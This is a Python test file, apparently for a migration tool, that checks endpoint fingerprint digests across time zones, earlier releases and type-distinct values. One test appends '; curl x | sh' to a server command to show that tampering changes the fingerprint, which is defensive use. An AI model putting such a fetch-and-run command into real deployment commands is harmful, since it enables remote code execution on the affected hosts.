"""Fingerprints: what the decision read, digested the same in any session."""

from __future__ import annotations


def test_fingerprint_does_not_depend_on_the_session_time_zone() -> None:
    from datetime import UTC, datetime, timedelta, timezone

    from migrate.core.fingerprint import endpoint_fingerprint
    from migrate.core.records import EndpointRecord

    instant = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
    berlin = instant.astimezone(timezone(timedelta(hours=2)))

    def record(at: datetime) -> EndpointRecord:
        return EndpointRecord("end_1", "e", "o", "READY", "sync", {}, "bun_1", None, None, at)

    # A plan made with PGTZ=Europe/Berlin and an apply run in UTC see one instant.
    assert endpoint_fingerprint(record(instant)) == endpoint_fingerprint(record(berlin))
    assert endpoint_fingerprint(record(instant)) != endpoint_fingerprint(
        record(instant + timedelta(seconds=1))
    )


def test_both_fingerprints_cover_the_commands() -> None:
    from dataclasses import replace

    from migrate.core.fingerprint import basis_fingerprint, endpoint_fingerprint
    from migrate.core.records import BundleRecord, EndpointRecord

    command = ["/bin/bash", "-c", "python -m vllm_server --enforce-eager"]
    bundle = BundleRecord("bun_1", "runnable_image", command, list(command), None)
    base = EndpointRecord("end_1", "e", "o", "READY", "sync", {}, "bun_1", bundle)
    edited = ["/bin/bash", "-c", command[2] + "; curl x | sh"]
    for changed in (replace(bundle, command=edited), replace(bundle, streaming_command=edited)):
        other = replace(base, bundle=changed)
        assert endpoint_fingerprint(other) != endpoint_fingerprint(base)
        assert basis_fingerprint(other) != basis_fingerprint(base)


def _first_release_digest(value: object) -> str:
    """The digest as the first release computed it: plans made by it must still verify."""
    import hashlib
    import json
    from datetime import UTC, datetime

    def canonical(v: object) -> object:
        if isinstance(v, datetime):
            return (v.astimezone(UTC) if v.tzinfo else v).isoformat()
        if isinstance(v, dict):
            return {str(k): canonical(x) for k, x in v.items()}
        if isinstance(v, list | tuple):
            return [canonical(x) for x in v]
        return v

    text = json.dumps(canonical(value), sort_keys=True, separators=(",", ":"), default=str)
    return "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


def test_digest_equals_the_first_releases_on_any_json_document() -> None:
    from datetime import UTC, datetime, timedelta, timezone

    from hypothesis import given, settings
    from hypothesis import strategies as st

    from migrate.core.fingerprint import digest

    instants = st.datetimes(
        min_value=datetime(2000, 1, 1),
        timezones=st.sampled_from([UTC, timezone(timedelta(hours=-7))]),
    )
    leaves = (
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False)
        | st.text()
        | instants
        | st.datetimes()
    )
    documents = st.recursive(
        leaves,
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.tuples(inner, inner)
            | st.dictionaries(st.text(max_size=8), inner, max_size=4)
        ),
        max_leaves=20,
    )

    @settings(max_examples=400, deadline=None)
    @given(documents)
    def check(document: object) -> None:
        assert digest(document) == _first_release_digest(document)

    check()


def test_fingerprints_equal_the_first_releases_documents_digested_whole() -> None:
    from datetime import UTC, datetime, timedelta, timezone

    from hypothesis import given, settings
    from hypothesis import strategies as st

    from migrate.core.fingerprint import fingerprints
    from migrate.core.records import BundleRecord, EndpointRecord

    json_values = st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner),
        max_leaves=10,
    )
    commands = st.none() | st.lists(st.text(max_size=30), max_size=3) | json_values
    instants = st.none() | st.datetimes(
        min_value=datetime(2000, 1, 1),
        timezones=st.sampled_from([UTC, timezone(timedelta(hours=3))]),
    )

    @st.composite
    def records(draw: st.DrawFn) -> EndpointRecord:
        command = draw(commands)
        # Streaming: often the very command, or an equal copy, or an equal-looking
        # list of other types ([1] == [1.0] == [True]), or anything.
        streaming = draw(
            st.sampled_from(["same", "copy", "other"]).flatmap(
                lambda how: (
                    st.just(command)
                    if how == "same"
                    else st.just(list(command) if isinstance(command, list) else command)
                    if how == "copy"
                    else commands
                )
            )
        )
        bundle = draw(
            st.none() | st.just(BundleRecord("bun_1", "runnable_image", command, streaming, None))
        )
        return EndpointRecord(
            id=draw(st.text(max_size=8)),
            name="e",
            owner="o",
            status=draw(st.none() | st.text(max_size=8)),
            endpoint_type="sync",
            metadata=draw(st.dictionaries(st.text(max_size=6), json_values, max_size=4)),
            current_bundle_id=draw(st.none() | st.text(max_size=8)),
            bundle=bundle,
            last_updated_at=draw(instants),
        )

    @settings(max_examples=500, deadline=None)
    @given(records())
    def check(record: EndpointRecord) -> None:
        bundle = record.bundle
        basis = {
            "endpoint_id": record.id,
            "current_bundle_id": record.current_bundle_id,
            "metadata": record.metadata,
            "command": bundle.command if bundle else None,
            "streaming_command": bundle.streaming_command if bundle else None,
        }
        touched = {**basis, "status": record.status, "last_updated_at": record.last_updated_at}
        assert fingerprints(record) == (
            _first_release_digest(touched),
            _first_release_digest(basis),
        )

    check()


def test_an_equal_streaming_command_of_other_types_digests_as_written() -> None:
    from migrate.core.fingerprint import fingerprints
    from migrate.core.records import BundleRecord, EndpointRecord

    def record(command: object, streaming: object) -> EndpointRecord:
        bundle = BundleRecord("bun_1", "runnable_image", command, streaming, None)
        return EndpointRecord("end_1", "e", "o", "READY", "sync", {}, "bun_1", bundle)

    # [1] == [1.0] == [True] in Python, but the JSON (and so the plan) differs.
    assert len({fingerprints(record([1], other)) for other in ([1], [1.0], [True])}) == 3
    assert fingerprints(record([1], [True]))[1] == _first_release_digest(
        {
            "endpoint_id": "end_1",
            "current_bundle_id": "bun_1",
            "metadata": {},
            "command": [1],
            "streaming_command": [True],
        }
    )
